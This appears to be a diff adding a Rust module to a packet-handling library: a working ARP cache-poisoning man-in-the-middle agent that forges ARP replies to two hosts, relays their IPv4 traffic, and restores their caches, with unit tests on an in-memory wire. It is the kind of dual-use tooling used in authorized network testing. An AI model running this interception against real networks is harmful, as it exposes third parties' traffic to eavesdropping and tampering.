@@ -0,0 +1,281 @@
+use crate::control_interfaces::neighbors::{self, Host};
+use crate::control_interfaces::{pcap, PacketInterface};
+use crate::pcap_c;
+use crate::protocols::linklayer::ethernet::HW_ADDR_LEN;
+use crate::protocols::networklayer::arp;
+
+use tokio_stream::StreamExt;
+
+/// The time between two rounds of forged replies. Caches usually keep entries for much longer than this.
+pub const POISON_PERIOD: std::time::Duration = std::time::Duration::from_secs(2);
+
+/// The number of correcting replies that are sent to each target, in case some of them are lost.
+const RESTORE_ROUNDS: u32 = 3;
+
+/// The time between two rounds of correcting replies.
+const RESTORE_PERIOD: std::time::Duration = std::time::Duration::from_millis(100);
+
+#[derive(Debug)]
+pub enum Error {
+    /// The interface does not carry Ethernet frames. The link type is given.
+    NotEthernet(i32),
+    /// The MAC address of a target could not be resolved.
+    Resolve(neighbors::Error),
+}
+
+impl std::fmt::Display for Error {
+    fn fmt(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
+        match self {
+            Error::NotEthernet(t) => write!(f, "the interface has link type {}, not Ethernet", t),
+            Error::Resolve(e) => write!(f, "{}", e),
+        }
+    }
+}
+
+impl std::error::Error for Error {
+    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
+        match self {
+            Error::Resolve(e) => Some(e),
+            _ => None,
+        }
+    }
+}
+
+/// Places itself between two hosts by poisoning their ARP caches, and forwards the IPv4 traffic that they send each other through it.
+/// Only use it on networks that you are authorized to test. The kernel should not forward IPv4 packets while the agent runs, or every packet would be forwarded twice.
+/// The agent has to be stopped (e.g. when Ctrl-C is pressed), so that the caches of the targets are restored. Dropping it sends only a single round of correcting replies.
+pub struct Agent<I: PacketInterface> {
+    interface: I,
+    /// The addresses that the agent uses on the interface.
+    me: Host,
+    targets: (Host, Host),
+    /// Whether forged replies have been sent, and the caches have to be restored.
+    poisoned: bool,
+}
+
+impl<I: PacketInterface> Agent<I> {
+    /// Constructs an agent that stands between two IPv4 addresses, after resolving their MAC addresses through the interface.
+    pub async fn new(
+        mut interface: I,
+        me: Host,
+        targets: ([u8; 4], [u8; 4]),
+    ) -> Result<Agent<I>, Error> {
+        if interface.link_type() != pcap_c::DLT_EN10MB {
+            return Err(Error::NotEthernet(interface.link_type()));
+        }
+        let neighbors = neighbors::Table::new(me);
+        let mut resolved = Vec::with_capacity(2);
+        for ip in [targets.0, targets.1].iter() {
+            match neighbors.resolve_on(&mut interface, *ip).await {
+                Ok(mac) => resolved.push(Host { mac, ip: *ip }),
+                Err(e) => return Err(Error::Resolve(e)),
+            }
+        }
+        Ok(Agent {
+            interface,
+            me,
+            targets: (resolved[0], resolved[1]),
+            poisoned: false,
+        })
+    }
+
+    /// Tells each target that the other one is at the MAC address of the agent.
+    fn poison(&mut self) {
+        self.poisoned = true;
+        let (a, b) = self.targets;
+        for (target, impersonated) in [(a, b), (b, a)].iter() {
+            let forged = Host {
+                mac: self.me.mac,
+                ip: impersonated.ip,
+            };
+            if let Err(e) =
+                self.interface
+                    .inject(forged.arp(target.mac, arp::Action::Response, *target))
+            {
+                eprintln!("{}", e);
+            }
+        }
+    }
+
+    /// Tells each target the real MAC address of the other one.
+    fn restore(&mut self) {
+        let (a, b) = self.targets;
+        for (target, real) in [(a, b), (b, a)].iter() {
+            if let Err(e) =
+                self.interface
+                    .inject(real.arp(target.mac, arp::Action::Response, *target))
+            {
+                eprintln!("{}", e);
+            }
+        }
+    }
+
+    /// Stops poisoning the targets, and restores their caches.
+    pub async fn stop(mut self) {
+        if !self.poisoned {
+            return;
+        }
+        println!("Restoring the ARP caches of the targets");
+        for round in 0..RESTORE_ROUNDS {
+            if round > 0 {
+                tokio::time::sleep(RESTORE_PERIOD).await;
+            }
+            self.restore();
+        }
+        self.poisoned = false;
+    }
+
+    /// Forwards an IPv4 packet that one target has sent to the other through the agent. Other frames are left alone.
+    fn forward(&mut self, data: pcap::Data) {
+        let mut raw = match data {
+            // Truncated frames can not be forwarded.
+            pcap::Data::Raw(r) if r.caplen < r.original_len => return,
+            pcap::Data::Raw(r) => r.bytes.into_vec(),
+            d => d.into_buffer((0, 0)),
+        };
+        // The frame must hold an Ethernet header and an IPv4 header, whose EtherType is 0x0800.
+        if raw.len() < 2 * HW_ADDR_LEN + 2 + 20 || raw[12..14] != [0x08, 0x00] {
+            return;
+        }
+        if raw[..HW_ADDR_LEN] != self.me.mac || raw[30..34] == self.me.ip {
+            return;
+        }
+        let (a, b) = self.targets;
+        let next_hop = match &raw[HW_ADDR_LEN..2 * HW_ADDR_LEN] {
+            src if src == a.mac => b.mac,
+            src if src == b.mac => a.mac,
+            _ => return,
+        };
+        raw[..HW_ADDR_LEN].copy_from_slice(&next_hop);
+        raw[HW_ADDR_LEN..2 * HW_ADDR_LEN].copy_from_slice(&self.me.mac);
+        if let Err(e) = self.interface.inject_buffer(&raw) {
+            eprintln!("{}", e);
+        }
+    }
+
+    /// While running, the agent keeps the caches of the targets poisoned and forwards the traffic between them.
+    /// The future can be dropped at any time, after which the agent should be stopped.
+    pub async fn run(&mut self) {
+        let (a, b) = self.targets;
+        println!(
+            "Intercepting {}.{}.{}.{} and {}.{}.{}.{}",
+            a.ip[0], a.ip[1], a.ip[2], a.ip[3], b.ip[0], b.ip[1], b.ip[2], b.ip[3]
+        );
+        let mut ticks = tokio::time::interval(POISON_PERIOD);
+        loop {
+            tokio::select! {
+                _ = ticks.tick() => self.poison(),
+                p = self.interface.next() => match p {
+                    Some(Ok((_, d))) => self.forward(d),
+                    Some(Err(e)) => eprintln!("{}", e),
+                    None => return,
+                },
+            }
+        }
+    }
+}
+
+impl<I: PacketInterface> Drop for Agent<I> {
+    fn drop(&mut self) {
+        // Waiting between rounds would block the runtime, so only one round is sent.
+        if self.poisoned {
+            self.restore();
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::control_interfaces::memory;
+    use crate::protocols::{linklayer, networklayer};
+
+    const ME: Host = Host {
+        mac: [2, 0, 0, 0, 0, 1],
+        ip: [10, 0, 0, 1],
+    };
+    const A: Host = Host {
+        mac: [2, 0, 0, 0, 0, 2],
+        ip: [10, 0, 0, 2],
+    };
+    const B: Host = Host {
+        mac: [2, 0, 0, 0, 0, 3],
+        ip: [10, 0, 0, 3],
+    };
+
+    fn agent(interface: memory::Port) -> Agent<memory::Port> {
+        Agent {
+            interface,
+            me: ME,
+            targets: (A, B),
+            poisoned: false,
+        }
+    }
+
+    /// Reads the next reply from the wire, as the Ethernet destination, the sender and the target.
+    async fn reply(peer: &mut memory::Port) -> ([u8; HW_ADDR_LEN], Host, Host) {
+        match peer.next().await {
+            Some(Ok((
+                _,
+                pcap::Data::LinkLayer(linklayer::Data::Ethernet(linklayer::ethernet::Frame {
+                    dst,
+                    next:
+                        networklayer::Data::Arp(arp::Packet {
+                            hw_addr: arp::LLAddressPair::Ethernet(smac, tmac),
+                            sw_addr: arp::NLAddressPair::Ipv4(sip, tip),
+                            action: arp::Action::Response,
+                        }),
+                    ..
+                })),
+            ))) => (
+                dst,
+                Host { mac: smac, ip: sip },
+                Host { mac: tmac, ip: tip },
+            ),
+            p => panic!("{:?}", p.map(|p| p.map(|(_, d)| d))),
+        }
+    }
+
+    /// Checks that each target is told the real address of the other one.
+    async fn restored(peer: &mut memory::Port) {
+        assert_eq!(reply(peer).await, (A.mac, B, A));
+        assert_eq!(reply(peer).await, (B.mac, A, B));
+    }
+
+    #[tokio::test]
+    async fn stopping_restores_the_caches() {
+        let (port, mut peer) = memory::wire(pcap_c::DLT_EN10MB, ("mitm", "lan"));
+        let mut agent = agent(port);
+        agent.poison();
+        let forged = |ip| Host { mac: ME.mac, ip };
+        assert_eq!(reply(&mut peer).await, (A.mac, forged(B.ip), A));
+        assert_eq!(reply(&mut peer).await, (B.mac, forged(A.ip), B));
+
+        agent.stop().await;
+        for _ in 0..RESTORE_ROUNDS {
+            restored(&mut peer).await;
+        }
+        // Nothing is sent once the agent has been stopped and dropped.
+        assert!(peer.next().await.is_none());
+    }
+
+    #[tokio::test]
+    async fn dropping_restores_the_caches_once() {
+        let (port, mut peer) = memory::wire(pcap_c::DLT_EN10MB, ("mitm", "lan"));
+        let mut agent = agent(port);
+        agent.poison();
+        reply(&mut peer).await;
+        reply(&mut peer).await;
+
+        drop(agent);
+        restored(&mut peer).await;
+        assert!(peer.next().await.is_none());
+    }
+
+    #[tokio::test]
+    async fn unpoisoned_agents_send_nothing() {
+        let (port, mut peer) = memory::wire(pcap_c::DLT_EN10MB, ("mitm", "lan"));
+        agent(port).stop().await;
+        assert!(peer.next().await.is_none());
+    }
+}